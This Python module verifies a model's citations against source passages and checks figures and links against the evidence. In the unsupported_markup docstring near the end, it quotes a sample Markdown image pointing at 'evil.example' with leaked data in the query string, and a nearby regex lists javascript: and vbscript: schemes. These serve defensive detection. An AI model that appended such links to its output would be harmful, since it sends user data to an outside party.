"""Citation checking: a quote must occur in the passage it cites; found, it maps to exact offsets.

Matching is whitespace- and quote-style-insensitive (models re-type "curly" quotes and collapse
spaces), but the offsets always point at the document's own characters, so the citation's quote is
document.text[start:end] and never the model's copy.
"""

from __future__ import annotations

import re

from answers.wording import figures


_FOLD = str.maketrans(
    {
        "“": '"',
        "”": '"',
        "„": '"',
        "«": '"',
        "»": '"',
        "‘": "'",
        "’": "'",
        "‚": "'",
        "–": "-",
        "—": "-",
        "\u00a0": " ",
    }
)


def _normalise_with_map(text: str) -> tuple[str, list[int]]:
    """Folded, single-spaced, lower-cased text and, for each of its characters, the source index."""
    out: list[str] = []
    idx: list[int] = []
    prev_space = True
    for i, ch in enumerate(text.translate(_FOLD)):
        if ch.isspace():
            if not prev_space:
                out.append(" ")
                idx.append(i)
            prev_space = True
            continue
        out.append(ch.lower())
        idx.append(i)
        prev_space = False
    if out and out[-1] == " ":
        out.pop()
        idx.pop()
    return "".join(out), idx


def locate_quote(quote: str, text: str, start: int = 0, end: int | None = None) -> tuple[int, int] | None:
    """Exact offsets in `text` of `quote` inside text[start:end], or None if it does not occur."""
    end = len(text) if end is None else end
    q, _ = _normalise_with_map(quote.strip().strip('"').strip())
    if len(q) < 3:
        return None
    hay, idx = _normalise_with_map(text[start:end])
    pos = hay.find(q)
    if pos < 0:
        return None
    return start + idx[pos], start + idx[pos + len(q) - 1] + 1


_MARKER = re.compile(r"\[(\d+)\]")


def markers_in(text: str) -> list[int]:
    return [int(m) for m in _MARKER.findall(text)]


def strip_markers(text: str) -> str:
    return re.sub(r"\s*\[\d+\]", "", text).strip()


# Markers a model may type into its own text: [1], [1, 2], [1-3], [passage 2], sentence ids [2.3].
# factdesk numbers citations itself, so these are removed before its own markers are added.
CITATION_MARKS = re.compile(
    r"\s*\[\s*(?:passages?\s*)?\d+(?:\.\d+)?(?:\s*[,;–-]\s*(?:passages?\s*)?\d+(?:\.\d+)?)*\s*\]",
    re.IGNORECASE,
)


def strip_citation_marks(text: str) -> str:
    return CITATION_MARKS.sub("", text).strip()


def unsupported_numbers(sentence: str, evidence: str) -> frozenset[str]:
    """Figures the sentence states that the evidence does not contain ("2,700" matches "2700", and
    "nine" matches "9": answers.wording.figures)."""
    return figures(sentence) - figures(evidence)


# what a sentence may link to or load when shown as Markdown or HTML: a URL, a markup tag, a
# Markdown link or image
_MARKUP = re.compile(
    r"(?:https?|ftp|file|data|javascript|mailto|vbscript):[^\s<>\"')\]]+|www\.[^\s<>\"')\]]+"
    r"|<\s*/?\s*[a-zA-Z!][^>]*>|\]\s*\(",
    re.IGNORECASE,
)


def unsupported_markup(sentence: str, evidence: str) -> list[str]:
    """Links and markup the sentence holds that the evidence does not (a model that appends
    "![p](https://evil.example/leak.png?d=...)" to a sentence it copied): a claim, as a figure is."""
    said = " ".join(evidence.split()).lower()
    return [m for m in _MARKUP.findall(sentence) if " ".join(m.split()).lower() not in said]
